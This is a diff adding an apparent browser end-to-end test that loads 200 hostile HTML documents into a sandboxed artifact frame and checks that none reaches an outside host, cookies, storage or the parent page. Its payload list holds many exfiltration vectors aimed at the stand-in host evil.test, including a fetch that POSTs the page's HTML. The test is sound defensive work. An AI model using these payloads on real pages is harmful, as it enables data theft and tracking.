@@ -1,0 +1,110 @@
+import { enter } from "./fixtures/api.ts";
+import { expect, test } from "./fixtures/test.ts";
+
+const EVIL = "https://evil.test/";
+
+/** Ways out of a document, each ready to be varied; what runs says so in its own title. */
+const WAYS = [
+  (to: string) => `<img src="${to}">`,
+  (to: string) => `<link rel="stylesheet" href="${to}">`,
+  (to: string) => `<link rel="prefetch" href="${to}">`,
+  (to: string) => `<link rel="icon" href="${to}">`,
+  (to: string) => `<script src="${to}"></script>`,
+  (to: string) => `<script type="module">import("${to}")</script>`,
+  (to: string) => `<script>fetch("${to}", { method: "POST", mode: "no-cors", body: document.body.outerHTML })</script>`,
+  (to: string) => `<script>const x = new XMLHttpRequest(); x.open("GET", "${to}"); x.send()</script>`,
+  (to: string) => `<script>navigator.sendBeacon("${to}", "x")</script>`,
+  (to: string) => `<script>new WebSocket("${to.replace("https", "wss")}")</script>`,
+  (to: string) => `<script>new EventSource("${to}")</script>`,
+  (to: string) => `<script>location = "${to}"</script>`,
+  (to: string) => `<script>top.location = "${to}"</script>`,
+  (to: string) => `<script>open("${to}")</script>`,
+  (to: string) => `<meta http-equiv="refresh" content="0;url=${to}">`,
+  (to: string) => `<form action="${to}" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
+  (to: string) => `<a href="${to}" target="_blank">x</a><script>document.querySelector("a").click()</script>`,
+  (to: string) => `<a href="${to}" target="_top">x</a><script>document.querySelector("a").click()</script>`,
+  (to: string) => `<iframe src="${to}"></iframe>`,
+  (to: string) => `<object data="${to}"></object><embed src="${to}">`,
+  (to: string) => `<video src="${to}" poster="${to}" autoplay></video><audio src="${to}" autoplay></audio>`,
+  (to: string) =>
+    `<style>@import "${to}"; body { background: url("${to}") } @font-face { font-family: f; src: url("${to}") } p { font-family: f }</style><p>x</p>`,
+  (to: string) =>
+    `<svg xmlns="http://www.w3.org/2000/svg"><image href="${to}"/><use href="${to}#a"/><foreignObject><img src="${to}"/></foreignObject></svg>`,
+  (to: string) => `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${to}')"><script>fetch("${to}")</script></svg>`,
+  (to: string) => `<iframe srcdoc="<script>fetch('${to}')</script>"></iframe>`,
+];
+
+const DOCUMENTS = WAYS.flatMap((way, place) =>
+  Array.from({ length: 8 }, (_, n) => `<!doctype html><p>Document ${place}</p>${way(`${EVIL}${place}/${n}`)}`),
+);
+
+test("two hundred hostile documents reach no other host, no cookie and no page of ours", async ({ page, baseURL, allowConsole }) => {
+  test.setTimeout(90_000);
+  allowConsole(/./);
+  expect(DOCUMENTS).toHaveLength(200);
+  const own = new URL(baseURL ?? "").host;
+  const foreign: string[] = [];
+  await page.context().route(
+    (url) => url.host !== own && /^(https?|wss?):$/.test(url.protocol),
+    (route) => {
+      foreign.push(route.request().url());
+      return route.abort();
+    },
+  );
+  page.on("websocket", (socket) => {
+    if (new URL(socket.url()).host !== own) foreign.push(socket.url());
+  });
+  page.context().on("page", (opened) => foreign.push(`opened ${opened.url()}`));
+  await enter(page);
+  await page.goto("/");
+  const address = page.url();
+
+  const done = await page.evaluate(async (documents) => {
+    const show = (source: string) =>
+      new Promise<void>((resolve) => {
+        const frame = document.createElement("iframe");
+        frame.setAttribute("sandbox", "allow-scripts");
+        frame.src = "/artifact-frame";
+        addEventListener("message", ({ source: from, data }) => {
+          if (from !== frame.contentWindow || data?.type !== "ready") return;
+          frame.contentWindow?.postMessage({ kind: "html", source }, "*");
+          frame.contentWindow?.postMessage({ kind: "html", source: "<script>parent.secondWasTaken = true</script>" }, "*");
+          resolve();
+        });
+        document.body.append(frame);
+      });
+    await Promise.all(documents.map(show));
+    return document.querySelectorAll("iframe").length;
+  }, DOCUMENTS);
+  expect(done).toBeGreaterThanOrEqual(200);
+
+  // What a document can learn of the page around it is nothing, and what goes wrong in it is told.
+  const ask = () =>
+    page.evaluate(
+      () =>
+        new Promise<string>((resolve) => {
+          const frame = document.createElement("iframe");
+          frame.setAttribute("sandbox", "allow-scripts");
+          frame.src = "/artifact-frame";
+          addEventListener("message", ({ source, data }) => {
+            if (source !== frame.contentWindow) return;
+            if (data.type === "error") resolve(`${data.message}`);
+            else
+              frame.contentWindow?.postMessage(
+                {
+                  source: `<script>
+                  const tried = (read) => { try { return String(read()); } catch { return "refused"; } };
+                  throw new Error([origin, tried(() => document.cookie), tried(() => localStorage.length), tried(() => parent.document.title)].join(" "));
+                </script>`,
+                },
+                "*",
+              );
+          });
+          document.body.append(frame);
+        }),
+    );
+  // Each of these is a document that comes after all others: what they set going has begun by then.
+  for (let n = 0; n < 5; n += 1) expect(await ask()).toContain("null refused refused refused");
+  expect(foreign).toEqual([]);
+  expect(page.url()).toBe(address);
+});
